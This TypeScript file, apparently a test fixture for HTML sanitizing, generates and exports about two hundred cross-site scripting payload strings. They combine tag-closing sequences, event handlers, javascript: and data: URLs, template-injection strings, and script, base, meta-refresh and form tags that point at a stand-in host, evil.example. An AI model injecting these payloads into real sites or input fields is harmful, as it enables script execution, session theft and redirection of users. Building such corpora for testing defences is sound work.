// Texts that try to become something else than text. `trap()` is what each would call if it ran.
const calls = ['trap()', 'trap`1`', '(trap)(1)', "window['trap']()", 'eval("trap()")', 'setTimeout(trap)'];
const events = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbeforetoggle',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'iframe src=x',
  'input autofocus',
  'marquee',
  'object data=x',
  'math',
];
const closers = [
  '',
  '">',
  "'>",
  '</title>',
  '</title ',
  '</style>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '</h3></li></ul>',
  '`>',
  '\u2028">',
];

const scripts = closers.flatMap((closer) => [
  `${closer}<script>trap()</script>`,
  `${closer}<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `${closer}<svg><script>trap()</script></svg>`,
  `${closer}<style>*{background:url(//evil.example)}</style>`,
]);
const handlers = elements.flatMap((element, i) =>
  events.map(
    (event, j) =>
      `${closers[(i + j) % closers.length] ?? ''}<${element} ${event}=${calls[(i * 3 + j) % calls.length] ?? ''}>`,
  ),
);
const attributes = events.flatMap((event) => [
  `" ${event}="trap()" x="`,
  `' ${event}='trap()' x='`,
  ` ${event}=trap() `,
]);
const odd = [
  ...[
    'javascript:trap()',
    'data:text/html,<script>trap()</script>',
    '&lt;script&gt;trap()&lt;/script&gt;',
    '&#60;script&#62;trap()',
  ],
  ...[
    '<!--<img src="--><img src=x onerror=trap()>">',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content=0;url=//evil.example>',
  ],
  ...[
    '<link rel=stylesheet href=//evil.example>',
    '<form action=//evil.example><button>',
    '{{constructor.constructor("trap()")()}}',
  ],
  ...[
    '${trap()}',
    '<%= trap() %>',
    '<a href="javascript:trap()">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=trap()>">',
  ],
  ...[
    '<template><script>trap()</script></template>',
    '\u202etrap()<script>',
    '<img src=x onerror=trap()//',
    '<svg/onload=trap()>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=trap()>',
    '<x contenteditable onblur=trap()>lose focus</x>',
  ],
];

/** Some two hundred of them. */
export const hostileTexts: readonly string[] = [...scripts, ...handlers, ...attributes, ...odd];
